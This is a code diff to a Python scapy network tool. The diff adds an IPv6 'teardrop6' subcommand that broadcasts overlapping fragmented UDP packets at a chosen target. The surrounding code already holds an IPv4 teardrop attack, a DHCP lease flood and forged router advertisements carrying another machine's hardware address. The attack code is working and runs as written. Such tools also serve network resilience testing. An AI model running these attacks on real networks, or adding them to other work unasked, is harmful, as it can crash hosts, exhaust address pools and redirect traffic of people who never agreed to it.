@@ -22,7 +22,12 @@ from scapy.arch import get_if_hwaddr
 from scapy.config import conf
 from scapy.layers.dhcp import BOOTP, DHCP
 from scapy.layers.inet import IP, TCP, UDP
-from scapy.layers.inet6 import ICMPv6ND_RA, ICMPv6NDOptSrcLLAddr, IPv6
+from scapy.layers.inet6 import (
+    ICMPv6ND_RA,
+    ICMPv6NDOptSrcLLAddr,
+    IPv6,
+    IPv6ExtHdrFragment,
+)
 from scapy.layers.l2 import ARP, Ether
 from scapy.utils import mac2str
 
@@ -250,6 +255,20 @@ def teardrop(arguments: argparse.Namespace) -> None:
         time.sleep(0.05)
 
 
+def teardrop6(arguments: argparse.Namespace) -> None:
+    """The same of IPv6, to whoever takes the frame."""
+    wire = conf.L2socket(iface=INTERFACE, promisc=False)
+    own = get_if_hwaddr(INTERFACE)
+    whole = bytes(UDP(sport=4000, dport=53, len=36)) + bytes(28)
+    for number in range(1, 1 + arguments.rounds):
+        head = IPv6(src=arguments.source, dst=arguments.target)
+        first, second = (IPv6ExtHdrFragment(nh=17, id=number) for _ in range(2))
+        first.m, second.offset = 1, 3
+        for part in (head / first / (whole + bytes(4)), head / second / bytes(8)):
+            wire.send(Ether(src=own, dst=BROADCAST) / part)
+        time.sleep(0.05)
+
+
 def router(arguments: argparse.Namespace) -> None:
     """A router's advertisements; ``--hardware``: another's hardware address in them."""
     wire = conf.L2socket(iface=INTERFACE, promisc=False)
@@ -288,8 +307,11 @@ def main(argv: Sequence[str] | None = None) -> int:
     leases.add_argument("clients", type=int)
     leases.add_argument("--server", default="")
     leases.add_argument("--pause", type=float, default=0.01)
-    drop = command("teardrop", teardrop, "source", "target")
-    drop.add_argument("--rounds", type=int, default=20)
+    for drop in (
+        command("teardrop", teardrop, "source", "target"),
+        command("teardrop6", teardrop6, "source", "target"),
+    ):
+        drop.add_argument("--rounds", type=int, default=20)
     advertise = command("router", router, "address")
     advertise.add_argument("--hardware", default="")
     advertise.add_argument("--preference", type=int, default=0)
